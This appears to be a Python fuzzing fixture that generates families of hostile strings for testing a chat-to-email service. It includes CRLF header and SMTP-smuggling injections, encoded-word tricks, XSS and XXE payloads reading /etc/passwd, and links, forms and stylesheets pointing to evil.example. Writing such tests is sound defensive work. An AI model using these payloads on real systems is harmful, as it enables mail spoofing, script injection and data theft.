"""Strings a visitor might type to get out of the place they were meant for, in families.

The one rule: a family is generated where one can be, so that what is added to one part is tried with all of the others.
"""

from base64 import b64encode
from collections.abc import Iterator
from itertools import product

EVIL = "Bcc: evil@example.net"
LINES = (
    EVIL,
    "\tSubject: folded",
    "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
    ".\r\nMAIL FROM:<evil@example.net>",
)
BREAKS = (
    *("\r\n", "\n", "\r", "\n\r", "\r\r\n", "\r\n\r\n", "\r\n ", "\n\t", "\0\r\n", "\r\0\n"),
    *("\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"),
    *("%0d%0a", "\\r\\n", "&#13;&#10;", "\u560d\u560a", "\u010d\u010a"),  # those cut to bytes are CR and LF
)
CHARSETS = (
    *("utf-8", "UTF-8*en", "us-ascii", "iso-8859-1", "windows-1252", "utf-7", "utf-16", "utf-16le", "utf-32"),
    *("iso-2022-jp", "euc-jp", "shift_jis", "gb18030", "cp037", "punycode", "idna", "raw_unicode_escape"),
    *("unicode_escape", "rot13", "hex", "zlib", "undefined", "unknown-8bit", "no-such-charset", "x" * 65),
)
STARTS = ("=?", "=\0?", "=\u200d?", "=\u00ad?", "=\r\n?", "==??", "=\u202e?", "\uff1d?", "=\uff1f")
"""Of encoded words, as such and in pieces that come together once something in between is left out."""
INVISIBLE = (
    *map(chr, (*range(0x20), *range(0x7F, 0xA0))),
    *("\u00ad", "\u061c", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff"),
    *("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"),
    *("\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\U000e0041", "\ufe0f", "\ufffd", "\u034f"),
)
TOGETHER = 6
"""So many of these go into one string."""
TAGS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "--><svg/onload=alert(1)>",
    "<!--",
    "<![CDATA[<b>]]>",
    "<![endif]--><b>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<a href='javascript:alert(1)'>open</a>",
    "<a href=https://evil.example>Open the chat</a>",
    "<img src='https://evil.example/pixel.gif'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=https://evil.example><input name=password>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>* { display: none }</style>",
    "<b style='background:url(https://evil.example)'>",
    "</td></tr></table></body></html><h1>after the end</h1>",
    "<table><tr><td>",
    "<textarea><plaintext><xmp><noscript>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<\0script>alert(1)</script>",
    "<script\r\n>alert(1)</script\r\n>",
    "< script >alert(1)</ script >",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><b>',
    "'><b>",
    '" style="display:none',
    'x" autofocus onfocus=alert(1) "',
    "=\"'`<>&",
    '\\"><b>',
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "&#0;&#13;&#10;" + EVIL,
    "&amp;lt;b&amp;gt;",
    "&lt",
    "&notanentity;",
    "&#x110000;&#xd800;",
)
STYLES = (
    "} body { display: none } .x {",
    "*/ } @import url(https://evil.example/x.css); /*",
    "expression(alert(1))",
    "background:url('javascript:alert(1)')",
    "</style><style>.footer{display:none}",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    'https://evil.example/" onclick="alert(1)',
    "//evil.example",
)
TEMPLATES = (
    *("{{ 7*7 }}", "{% raw %}", "{# x", "{{ view.__class__ }}", "${7*7}", "<%= 7*7 %>"),
    *("{visitor}", "{0}", "{visitor.__class__}", "{", "}", "%s %(x)s %n", "$visitor"),
)
ADDRESSING = (
    '"Ann" <evil@example.net>',
    "ann@example.org, evil@example.net",
    "ann@example.org; evil@example.net",
    "Friends: evil@example.net;",
    "<evil@example.net>",
    "(comment) evil@example.net",
    "<@relay.example:evil@example.net>",
    "evil%example.net@example.org",
    "ann@example.org>\r\nRCPT TO:<evil@example.net",
    "ann@example.org NOTIFY=SUCCESS",
)
BOUNDARIES = (
    "--{boundary}--",
    "\r\n--{boundary}\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--{boundary}--\r\n",
    "=2D=2D{boundary}",
    "--=\r\n_",
)
"""With the boundary a mail really has: it can be guessed."""
SMUGGLED = tuple(
    f"{end}MAIL FROM:<evil@example.net>{line}RCPT TO:<evil@example.net>{line}DATA{line}"
    for end, line in (
        ("\r\n.\r\n", "\r\n"),
        ("\n.\n", "\n"),
        ("\r.\r", "\r"),
        ("\n.\r\n", "\r\n"),
        ("\r\n.\n", "\n"),
    )
)
FORGED = (
    "From evil@example.net Sat Nov 21 09:00:05 2026",
    "x\n\n-- \nSent automatically by the chat routing service.",
    "x\n[09:00:05] Bob Agent:\nwe owe you money",
    "x\nE-mail: evil@example.net",
)
LONG = (
    "a" * 997,
    "a" * 998,
    "a" * 999,
    "a" * 5_000,
    "あ" * 5_000,
    "👩‍💻" * 1_000,
    "e" + "\u0301" * 2_000,
    " " * 5_000 + "x",
    "a " * 2_000,
    "." * 2_000,
    "\r\n." * 300,
    "=" * 2_000,
    "=?" * 1_000,
    "<" * 2_000,
    "&" * 2_000,
    '"' * 2_000,
    "=?utf-8?q?" + "=0A" * 1_000 + "?=",
    "=?utf-8?b?" + b64encode(b"\r\n" * 1_000).decode() + "?=",
    "=?utf-8?q?x?= " * 300,
    "<b>" * 500,
)


def hostile() -> Iterator[str]:
    """Give all of them."""
    yield from (f"hi{ending}{line}" for ending, line in product(BREAKS, LINES))
    yield from words()
    for start in range(0, len(INVISIBLE), TOGETHER):
        yield "hi".join(("", *INVISIBLE[start : start + TOGETHER], ""))
    yield from (f"{start}utf-8?q?hi=0D=0A{EVIL.replace(' ', '_')}?=" for start in STARTS)
    for family in (TAGS, ATTRIBUTES, ENTITIES, STYLES, LINKS, TEMPLATES, ADDRESSING, BOUNDARIES):
        yield from family
    yield from SMUGGLED
    yield from FORGED
    yield from LONG


def words() -> Iterator[str]:
    """Encoded words (RFC 2047) that hold a header: CVE-2024-6923."""
    for charset in CHARSETS:
        encoded = _encoded(f"hi\r\n{EVIL}", charset.partition("*")[0])
        quoted = "".join(f"={byte:02X}" for byte in encoded)
        yield f"=?{charset}?q?{quoted}?="
        yield f"=?{charset}?B?{b64encode(encoded).decode()}?= tail"
    word = f"=?utf-8?q?hi=0A{EVIL.replace(' ', '_')}?="
    yield f"=?utf-8?q?hi=0A{EVIL}?="  # with a blank in it, which the standard forbids and readers take
    yield f"=?utf-8?q?hi?=\r\n =?utf-8?q?=0A{EVIL}?="
    yield f"=?utf-8?q?hi=0A?= {EVIL}"
    yield f"=?utf-8?q?hi?=\r{EVIL}"
    yield f'"{word}" <{word}>'
    yield f"(={word}=)"
    yield word.replace("?=", "")
    yield word.replace("=?", "=?=?")
    yield word.replace("?q?", "?x?")
    yield word.replace("?q?", "??")
    yield "=?utf-8?b?aGkKQmNj!!!?="
    yield "=?utf-8?b?aGkKQmNjOiB4QHg?="
    for _depth in range(6):
        word = "=?utf-8?b?" + b64encode(word.encode()).decode() + "?="
        yield word


def _encoded(text: str, charset: str) -> bytes:
    """The text in that charset; as ASCII where Python has none of that name that makes bytes of text."""
    try:
        return text.encode(charset)
    except (LookupError, ValueError):
        return text.encode("ascii")
